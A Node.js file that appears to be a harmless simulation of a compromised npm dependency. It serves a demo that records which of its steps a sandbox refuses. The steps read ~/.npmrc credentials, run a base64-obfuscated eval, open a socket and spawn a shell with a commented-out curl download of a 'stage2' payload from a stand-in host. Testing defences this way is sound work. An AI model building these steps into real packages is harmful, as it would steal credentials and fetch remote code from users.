'use strict'
// The compromised part, harmless: it reads a file that the demo made, asks for `localhost`, connects to a port of the demo's own, runs /bin/true,
// and sends nothing of what it found. Like the real ones it swallows every error, so that the application goes on.
const childProcess = require('node:child_process')
const dns = require('node:dns')
const fs = require('node:fs')
const net = require('node:net')
const os = require('node:os')
const path = require('node:path')

const { DEMO_NOTES: notes, DEMO_COLLECTOR: collector } = process.env

const steps = {
  'fs.open': () => fs.readFileSync(path.join(os.homedir(), '.npmrc')),
  'env.list': () => Object.keys(process.env),
  'code.eval': () => eval(Buffer.from('cHJvY2Vzcy5lbnYuUEFUSC5sZW5ndGg=', 'base64').toString()),
  'dns.lookup': () => new Promise((resolve, reject) => dns.lookup('localhost', (error) => (error ? reject(error) : resolve()))),
  'net.connect': () =>
    new Promise((resolve, reject) => {
      const socket = net.connect(Number(collector), '127.0.0.1', () => socket.end('ping', resolve))
      socket.on('error', reject)
    }),
  'process.spawn': () => {
    const { error } = childProcess.spawnSync('/bin/sh', ['-c', '/bin/true # curl -s https://example.invalid/stage2 -o /tmp/stage2'])
    if (error) throw error
  },
}

/** For the demo's own checks: says what became of a step, and waits until the demo has looked at the record. */
function note(step, error) {
  fs.appendFileSync(notes, `${JSON.stringify({ step, refused: error !== undefined, error: error && error.name, message: error && error.message })}\n`)
  const end = Date.now() + 5000
  while (!fs.existsSync(`${notes}.${step}`) && Date.now() < end) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 2)
}

async function collect() {
  for (const [step, run] of Object.entries(steps)) {
    try {
      await run()
      note(step)
    } catch (error) {
      note(step, error)
    }
  }
}

if (notes !== undefined) collect()
